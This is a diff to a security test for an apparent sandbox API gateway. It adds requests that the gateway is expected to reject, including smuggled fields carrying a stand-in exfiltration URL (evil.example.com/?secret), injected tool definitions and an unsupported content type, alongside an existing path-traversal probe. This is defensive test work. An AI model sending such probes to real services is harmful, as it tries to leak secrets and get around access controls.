@@ -27,9 +27,10 @@ __all__ = ["agent_folder"]
 _ASK = r"""
 import json, sys, urllib.error, urllib.request
 opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
-def ask(path, credential, body=None, method=None):
-    request = urllib.request.Request("@GATEWAY@" + path, method=method)
+def ask(path, credential, body=None, kind="application/json"):
+    request = urllib.request.Request("@GATEWAY@" + path)
     request.add_header("Authorization", "Bearer " + credential)
+    request.add_header("Content-Type", kind)
     data = None if body is None else json.dumps(body).encode()
     try:
         with opener.open(request, data, timeout=60) as answer:
@@ -44,6 +45,9 @@ ask("/v1/models/../files", "@DUMMY@")
 address = {"type": "image_url", "image_url": {"url": "https://evil.example.com/?secret"}}
 ask("/v1/chat/completions", "@DUMMY@", {"model": "m", "messages": [{"role": "user", "content": [address]}]})
 ask("/v1/responses", "@DUMMY@", {"model": "m", "input": "", "tools": [{"type": "mcp", "server_url": "x"}]})
+ask("/v1/chat/completions", "@DUMMY@", {**chat, "extra": {"Unheard": ["https://evil.example.com/?secret"]}})
+ask("/v1/chat/completions", "@DUMMY@", {**chat, "extra": {"Tools": [{"type": "web_search"}]}})
+ask("/v1/chat/completions", "@DUMMY@", chat, "application/x-protobuf")
 """
 ASK_GATEWAY = f"cat > $TMPDIR/ask.py <<'END'\n{_ASK}\nEND\npython3 $TMPDIR/ask.py"
 HUNT = [
@@ -73,6 +77,6 @@ async def test_the_workspace_finds_the_dummy_and_nothing_more(
     assert "ANTHROPIC_AUTH_TOKEN=gateway-" in outputs[0].replace('"', ""), "the hunt finds what is there"
     assert sent.headers["authorization"] == f"Bearer sk-{CANARY}", "the dummy opens the gateway"
     statuses = [line.split()[0] for line in outputs[-1].splitlines() if line[:3].isdigit()]
-    assert statuses == ["400", "401", "404", "404", "403", "403"], outputs[-1]
+    assert statuses == ["400", "401", "404", "404", "403", "403", "403", "400", "415"], outputs[-1]
     assert "[key] may not do this" in outputs[-1]
     assert os.environ.get("ANTHROPIC_AUTH_TOKEN") is None
